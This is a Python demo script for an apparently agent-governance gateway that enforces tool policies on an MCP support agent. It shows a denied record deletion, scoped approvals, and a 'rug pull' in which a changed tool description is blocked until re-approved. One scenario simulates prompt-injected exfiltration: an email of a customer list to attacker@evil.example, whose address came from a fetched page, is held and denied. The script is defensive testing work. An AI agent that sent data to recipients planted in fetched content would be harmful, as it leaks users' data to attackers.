"""The demo's MCP part: an agent through /mcp with tether's demo MCP server. The registry with
tags from annotations, a denied call, a call held because its recipient came from a fetched page
and one not held because it came from the task, a scoped approval that covers a repeat, and a
rug pull: a tool whose description changes on the live server is refused until re-approved."""

from __future__ import annotations

import json
import os
import time
from typing import Any

import httpx

from tether.demo.governed import agent_key, apply_policy
from tether.demo.scenarios import Demo
from tether.gateway.mcp.demo import start_call

AGENT = "mcp-support"
POLICY = f"""\
agent: {AGENT}
owner: customer-success
lists:
  contacts: [ada@example.com]
tools:
  - {{match: "demo.lookup_customer", allow: true}}
  - {{match: "demo.fetch_page", allow: true}}
  - {{match: "demo.send_email", when: {{to: {{in_list: contacts}}}}, allow: true}}
  - {{match: "demo.send_email", approval: required, reason: "a recipient outside contacts"}}
  - {{match: "demo.delete_record", allow: false, reason: "agents never delete records"}}
data_flow:
  - {{argument_from: untrusted, arguments: [to], require_approval_for_tag: egress}}
on_uncertain: deny
approval: {{timeout_s: 600, default: deny}}
"""


def _admin(demo: Demo) -> httpx.Client:
    headers = {"Authorization": f"Bearer {demo.admin_key}"} if demo.admin_key else {}
    return httpx.Client(base_url=demo.url + "/api/v1", headers=headers, timeout=30)


def _call(demo: Demo, key: str, run_id: str, tool: str, args: dict[str, str]) -> str:
    """One call through /mcp; returns "ok", "denied: ..." or the hold's approval id."""
    pending = start_call(demo.url, key, tool, args, run_id=run_id, hold_timeout_s=30)
    if pending.approval_id:
        return pending.approval_id
    result = pending.wait(60)
    if result is None:
        raise RuntimeError(f"{tool} did not finish")
    text = " ".join(getattr(b, "text", "") for b in result.content)
    return f"refused: {text}" if result.is_error else "ok"


def scenario_mcp(demo: Demo) -> None:
    with _admin(demo) as api:
        tools = api.get("/tools", params={"server": "demo"}).json().get("items", [])
        if not tools:
            # `--seed-only` against a tether without tether's demo MCP server in its config
            demo.notes.append("mcp: skipped, this tether serves no `demo` MCP server (add "
                              "tether.gateway.mcp.demo_server to mcp_servers)")  # fmt: skip
            return
        apply_policy(demo, POLICY)
        key = agent_key(demo, AGENT)
        demo.notes.append("registry: " + "; ".join(_registered(t) for t in tools))
        run = f"run_demo_mcp_{os.urandom(4).hex()}"
        api.post("/runs", json={"id": run, "agent": AGENT, "task_id": "TCK-77",
                                "input": "Send ada@example.com our shipping policy"})  # fmt: skip
        denied = _call(demo, key, run, "demo.delete_record", {"table": "customers", "id": "7"})
        demo.notes.append(f"mcp: demo.delete_record {denied[:90]}")
        _call(demo, key, run, "demo.fetch_page", {"url": "https://shop.example/shipping"})
        ok = _call(demo, key, run, "demo.send_email", {"to": "ada@example.com",
                   "subject": "Shipping", "body": "Orders ship within 2 days."})  # fmt: skip
        demo.notes.append(f"mcp: email to ada@example.com (named by the task) after reading "
                          f"the page: {ok}, not held")  # fmt: skip
        held = _call(demo, key, run, "demo.send_email", {"to": "attacker@evil.example",
                     "subject": "customers", "body": "list"})  # fmt: skip
        if not held.startswith("apr_"):
            raise RuntimeError(f"the email to attacker@evil.example was not held: {held}")
        hold = api.get(f"/approvals/{held}").json()
        demo.notes.append(f"mcp: email to attacker@evil.example held ({hold['rule']}): "
                          f"{hold['reason'][:120]}")  # fmt: skip
        api.post(f"/approvals/{held}/deny", json={"reason": "prompt injection on the page"})
        # a recipient from the CRM, outside contacts: held once, approved for the run
        alan = {"to": "alan@example.com", "subject": "Invoice", "body": "Your invoice."}
        first = _call(demo, key, run, "demo.send_email", alan)
        if not first.startswith("apr_"):
            raise RuntimeError(f"the email to alan@example.com was not held: {first}")
        api.post(f"/approvals/{first}/approve", json={"reason": "checked", "scope": "run"})
        again = _call(demo, key, run, "demo.send_email", alan)
        demo.notes.append(f"mcp: email to alan@example.com approved with scope run; the same "
                          f"call again: {again}, not asked twice")  # fmt: skip
        _rug_pull(demo, api, key, run)


def _registered(tool: dict[str, Any]) -> str:
    """`demo.send_email (egress, irreversible, write; annotations: destructive, open world)`."""
    hints = [label for key, label in _HINTS if (tool.get("annotations") or {}).get(key)]
    shown = f"{tool['name']} ({', '.join(tool['tags'])}"
    return shown + (f"; annotations: {', '.join(hints)})" if hints else ")")


_HINTS = (("read_only_hint", "read-only"), ("destructive_hint", "destructive"),
          ("open_world_hint", "open world"), ("idempotent_hint", "idempotent"))  # fmt: skip
UPGRADE = "Follows redirects and returns at most 1 MB of text (v2)."
RUG_PULL_WAIT_S = 30.0


def _rug_pull(demo: Demo, api: httpx.Client, key: str, run: str) -> None:
    """The upstream changes demo.fetch_page's description while tether serves it: the call is
    refused until a person has read the diff and re-approved the tool."""
    if demo.descriptions_file is None:
        demo.notes.append("mcp: rug pull skipped, only shown when the demo runs tether itself")
        return
    tool = "demo.fetch_page"
    demo.descriptions_file.write_text(json.dumps({"fetch_page": UPGRADE}))
    deadline = time.monotonic() + RUG_PULL_WAIT_S
    entry = api.get(f"/tools/{tool}").json()
    while entry.get("status") != "changed":  # tether re-lists the live server every few seconds
        if time.monotonic() > deadline:
            raise RuntimeError(f"tether did not notice {tool}'s new description: {entry}")
        time.sleep(0.2)
        entry = api.get(f"/tools/{tool}").json()
    url = {"url": "https://shop.example/returns"}
    refused = _call(demo, key, run, tool, url)
    if not refused.startswith("refused") or "description" not in refused:
        raise RuntimeError(f"{tool} was served although its description changed: {refused}")
    added = next((line[1:].strip() for line in (entry.get("diff") or "").splitlines()
                  if line.startswith("+") and not line.startswith("+++")), "?")  # fmt: skip
    shown = f"...{UPGRADE}" if added.endswith(UPGRADE) else added[-70:]
    demo.notes.append(f'mcp: rug pull: {tool}\'s description changed upstream: "{shown}"')
    demo.notes.append(f"mcp: {refused[:120]}")
    approved = api.post(f"/tools/{tool}/approve").json()
    again = _call(demo, key, run, tool, url)
    demo.notes.append(f"mcp: {tool} re-approved after review (pinned sha256 "
                      f"{approved['pinned_hash'][:12]}); the same call: {again}")  # fmt: skip


MCP_GOVERNED = [("support agent through /mcp: provenance, a denied call, a scoped approval, "
                 "a rug pull",
                 scenario_mcp)]  # fmt: skip
